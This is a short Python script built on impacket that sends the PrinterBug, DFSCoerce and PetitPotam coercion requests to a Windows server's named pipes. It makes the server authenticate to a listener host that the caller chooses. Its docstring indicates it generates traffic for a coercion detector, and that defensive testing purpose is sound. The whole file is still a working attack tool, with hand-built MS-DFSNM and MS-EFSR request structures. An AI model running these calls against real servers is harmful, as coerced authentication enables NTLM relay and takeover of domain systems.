#!/usr/bin/env python3
"""The coercion calls attackers make (PrinterBug, DFSCoerce, PetitPotam), driven through
impacket's library against a server's named pipes. Each call names a UNC path on LISTENER, the
host the server is meant to authenticate to. The server's answer does not matter: the request
on the wire is what dcerpc.coercion reads.

Usage: coerce.py SERVER USER PASSWORD LISTENER
"""
import sys

from impacket.dcerpc.v5 import rprn, transport
from impacket.dcerpc.v5.dtypes import DWORD, LONG, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.uuid import uuidtup_to_bin

SERVER, USER, PASSWORD, LISTENER = sys.argv[1:5]


# MS-DFSNM and MS-EFSR are not in impacket 0.10: their requests, as the specifications define them.
class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", DWORD))


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", LONG))


def connect(pipe, interface):
    rpc = transport.DCERPCTransportFactory(f"ncacn_np:{SERVER}[\\pipe\\{pipe}]")
    rpc.set_credentials(USER, PASSWORD, "", "", "")
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(interface)
    return dce


def attempt(name, call):
    try:
        call()
        print(f"{name}: answered")
    except (DCERPCException, Exception) as error:  # the server may refuse: the request was sent
        print(f"{name}: {error}")


def printerbug():
    dce = connect("spoolss", rprn.MSRPC_UUID_RPRN)
    handle = NULL
    try:
        handle = rprn.hRpcOpenPrinter(dce, f"\\\\{SERVER}\x00")["pHandle"]
    except DCERPCException as error:
        print(f"RpcOpenPrinter: {error}")
    request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
    request["hPrinter"] = handle if handle != NULL else b"\x00" * 20
    request["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
    request["pszLocalMachine"] = f"\\\\{LISTENER}\x00"
    request["pOptions"] = NULL
    dce.request(request)


def dfscoerce():
    dce = connect("netdfs", uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")))
    request = NetrDfsRemoveStdRoot()
    request["ServerName"] = f"{LISTENER}\x00"
    request["RootShare"] = "test\x00"
    request["ApiFlags"] = 1
    dce.request(request)


def petitpotam():
    dce = connect("lsarpc", uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")))
    request = EfsRpcOpenFileRaw()
    request["FileName"] = f"\\\\{LISTENER}\\test\\Settings.ini\x00"
    request["Flags"] = 0
    dce.request(request)


attempt("PrinterBug", printerbug)
attempt("DFSCoerce", dfscoerce)
attempt("PetitPotam", petitpotam)
